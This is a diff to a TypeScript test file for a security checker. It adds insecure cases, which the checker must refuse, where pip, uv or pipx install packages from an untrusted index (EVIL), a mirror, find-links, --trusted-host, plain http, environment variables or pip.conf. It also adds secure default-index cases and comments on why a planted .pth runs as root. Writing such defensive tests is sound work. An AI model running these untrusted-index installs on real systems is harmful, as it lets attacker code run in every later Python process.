@@ -43,6 +43,9 @@
 // unread; printf env files under set -a; XDG_CONFIG_*; PIP_ words in comments and env -u removals). Still open (round
 // 78): dev-py78-pip-evil-index-pth-nodes (an untrusted index install tainting every later python run refuses the
 // pinned secure pip-r-index of redteam77-secure: needs a decision on operator mirrors).
+// Round 90 fix (fix90-f2, DECIDED): dev-py78-pip-evil-index-pth-nodes fixed and unskipped: any package source but the
+// default index is refused at the install line (rootReads.ts unvouchedPythonPackages, pipOptions.ts pipUnvouchedSources),
+// withdrawing redteam77-secure's pinned pip-r-index; 12 insecure and 4 secure -fix90 neighbours.
 import { describeNodeCases, devNodeCase, devNodeScript, heredocFile, NodeCase, systemdUnit } from "./nodeBuilders";
 
 const dev = devNodeCase;
@@ -340,9 +343,7 @@ const insecure: NodeCase[] = [
         ),
         REFUSED,
     ),
-    // MISS: (PIP-UNTRUSTED-SITE) insecure accepted, got []. pip docs "pip install" --index-url / -i ("Base URL of the Python Package Index"): srvx comes from another index, and its wheel's .pth import line or sitecustomize runs in every later root Python process (Python docs "site"), here tune.py, which imports only json. The pack withdraws trust in the module srvx (scriptPipModules retracted) but pythonUnreadCode never asks whether an untrusted install changed site-packages. Fix: as the pip.main case.
-    // Still open (round 78): a shell install from another index tainting every later Python run conflicts with the pinned secure redteam77-secure pip-r-index (--extra-index-url of the operator's mirror, then python3 importing boto3: accepted by design, DECIDED round 69 operator downloads); the pack cannot tell the operator's index from EVIL by name. The fix needs a decision: withdraw that pin (every other-index install makes site-packages unread), or keep only the per-module retraction. pip run from Python (pip.main, subprocess) is refused (pythonPipRun).
-    // Still open (round 87): not changed. By round 69's DECIDED line an https index is the operator's own (the pinned redteam77-secure pip-r-index; round 87 DECIDED the same for a module downloaded over https and insmod-ed, dev-py86-insmod-argv-rt86p): keeping that decision makes this case DECIDED accepted; refusing it needs every install from another index to make site-packages unread for later runs, withdrawing that pin. A project decision, not a rule fix.
+    // Was a MISS (fixed in round 90): (PIP-UNTRUSTED-SITE) insecure accepted, got []. pip docs "pip install" --index-url / -i ("Base URL of the Python Package Index (default https://pypi.org/simple)"): srvx comes from another index, and its wheel's .pth import line or sitecustomize runs in every later root Python process (Python docs "site"), here tune.py, which imports only json. The pack withdrew trust in the module srvx only (scriptPipModules retracted). DECIDED (round 90): round 74's credit is the default index's by name; any other package source (another or an extra index, find-links, --trusted-host, PIP_INDEX_URL/PIP_EXTRA_INDEX_URL, a pip.conf index setting; uv's and pipx's the same) is refused at the install line (rootReads.ts unvouchedPythonPackages, pipOptions.ts pipUnvouchedSources), which withdraws the pinned secure redteam77-secure pip-r-index (pip docs' --extra-index-url warning, "dependency confusion").
     dev(
         "user data: pip3 install -i EVIL srvx (a .pth in its wheel runs at every start); tune.py imports json only",
         tune(
@@ -351,7 +352,92 @@ const insecure: NodeCase[] = [
             [`pip3 install -i ${EVIL} srvx`],
         ),
         REFUSED,
-        true,
+    ),
+    // Round 90 neighbours (pip docs "pip install" Package Index Options and "Configuration": environment variables and
+    // pip.conf keys are the long options; "Requirements File Format" option lines; uv docs "uv pip install" --index-url,
+    // "Environment variables" UV_INDEX_URL; pipx docs "pipx install" --index-url): a package source but the default index.
+    dev(
+        "user data: pip3 install --extra-index-url MIRROR srvx; tune.py imports json only",
+        tune(
+            "dev-py90-pip-extra-index-fix90",
+            ["import json"],
+            ["pip3 install --extra-index-url https://pypi.ops-mirror.example.net/simple srvx"],
+        ),
+        REFUSED,
+    ),
+    dev(
+        "user data: pip3 install -f https://ops.example.net/wheels/ srvx (a links page)",
+        tune(
+            "dev-py90-pip-find-links-fix90",
+            ["import json"],
+            ["pip3 install -f https://ops.example.net/wheels/ srvx"],
+        ),
+        REFUSED,
+    ),
+    dev(
+        "user data: pip3 install --trusted-host pypi.org srvx (TLS unverified for the default index)",
+        tune("dev-py90-pip-trusted-host-fix90", ["import json"], ["pip3 install --trusted-host pypi.org srvx"]),
+        REFUSED,
+    ),
+    dev(
+        "user data: pip3 install -i http://pypi.org/simple srvx (the default index over plain http)",
+        tune("dev-py90-pip-http-default-fix90", ["import json"], ["pip3 install -i http://pypi.org/simple srvx"]),
+        REFUSED,
+    ),
+    dev(
+        "user data: PIP_INDEX_URL=EVIL pip3 install srvx",
+        tune("dev-py90-pip-index-env-fix90", ["import json"], [`PIP_INDEX_URL=${EVIL} pip3 install srvx`]),
+        REFUSED,
+    ),
+    dev(
+        "user data: export PIP_EXTRA_INDEX_URL=EVIL; python3 -m pip install srvx",
+        tune(
+            "dev-py90-pip-extra-index-export-fix90",
+            ["import json"],
+            [`export PIP_EXTRA_INDEX_URL=${EVIL}`, "python3 -m pip install srvx"],
+        ),
+        REFUSED,
+    ),
+    dev(
+        "user data: /etc/pip.conf index-url = EVIL; pip3 install srvx",
+        tune(
+            "dev-py90-pip-conf-index-fix90",
+            ["import json"],
+            [...heredocFile("/etc/pip.conf", ["[global]", `index-url = ${EVIL}`]), "pip3 install srvx"],
+        ),
+        REFUSED,
+    ),
+    dev(
+        "user data: requirements.txt with -i EVIL; pip3 install -r",
+        tune(
+            "dev-py90-pip-r-evil-index-fix90",
+            ["import json"],
+            [
+                ...heredocFile("/opt/ops/requirements.txt", [`-i ${EVIL}`, "srvx==1.0"]),
+                "pip3 install -r /opt/ops/requirements.txt",
+            ],
+        ),
+        REFUSED,
+    ),
+    dev(
+        "user data: python3 -m pip install --index-url=EVIL srvx",
+        tune("dev-py90-python-m-pip-index-fix90", ["import json"], [`python3 -m pip install --index-url=${EVIL} srvx`]),
+        REFUSED,
+    ),
+    dev(
+        "user data: uv pip install --system --index-url EVIL srvx",
+        tune("dev-py90-uv-index-fix90", ["import json"], [`uv pip install --system --index-url ${EVIL} srvx`]),
+        REFUSED,
+    ),
+    dev(
+        "user data: UV_INDEX_URL=EVIL uv pip install --system srvx",
+        tune("dev-py90-uv-index-env-fix90", ["import json"], [`UV_INDEX_URL=${EVIL} uv pip install --system srvx`]),
+        REFUSED,
+    ),
+    dev(
+        "user data: pipx install --index-url EVIL srvx",
+        tune("dev-py90-pipx-index-fix90", ["import json"], [`pipx install --index-url ${EVIL} srvx`]),
+        REFUSED,
     ),
     // ===== the interpreter's environment from a sourced file =====
     // Held: bash(1) "set -a" exports the sourced PYTHONPATH; Python docs "The initialization of the sys.path module search path": its entries come before the standard library, so the tarball's json.py is what `import json` runs as root.
@@ -1046,6 +1132,36 @@ const secure: NodeCase[] = [
             ["import json", "print(json.dumps(1))"],
             ["pip3 install tenacity"],
         ),
+    ),
+    // Round 90 neighbours (secure): the default index named (pip docs "pip install": -i "default https://pypi.org/simple",
+    // isPipDefaultIndex's normalisation), by option, requirements line or variable, and a pip.conf of a trust-keeping
+    // setting only (pip docs "Configuration": `timeout`), are installs by name from PyPI (round 74 DECIDED).
+    dev(
+        "user data: pip3 install -i https://pypi.org/simple/ tenacity; tune.py imports tenacity",
+        tenacity("dev-py90-pip-default-index-fix90", ["pip3 install -i https://pypi.org/simple/ tenacity"]),
+    ),
+    dev(
+        "user data: requirements.txt with --index-url https://pypi.org/simple and boto3; python3 -c 'import boto3'",
+        devNodeScript("dev-py90-pip-r-default-index-fix90", [
+            ...heredocFile("/opt/ops/requirements.txt", ["--index-url https://pypi.org/simple", "boto3==1.34.0"]),
+            "pip3 install -r /opt/ops/requirements.txt",
+            "python3 -c 'import boto3' && echo ok",
+        ]),
+    ),
+    dev(
+        "user data: PIP_INDEX_URL=https://pypi.org/simple pip3 install tenacity; tune.py imports json only",
+        tune(
+            "dev-py90-pip-default-index-env-fix90",
+            ["import json", "print(json.dumps(1))"],
+            ["PIP_INDEX_URL=https://pypi.org/simple pip3 install tenacity"],
+        ),
+    ),
+    dev(
+        "user data: /etc/pip.conf timeout = 60; pip3 install tenacity; tune.py imports tenacity",
+        tenacity("dev-py90-pip-conf-timeout-fix90", [
+            ...heredocFile("/etc/pip.conf", ["[global]", "timeout = 60"]),
+            "pip3 install tenacity",
+        ]),
     ),
 ];
 
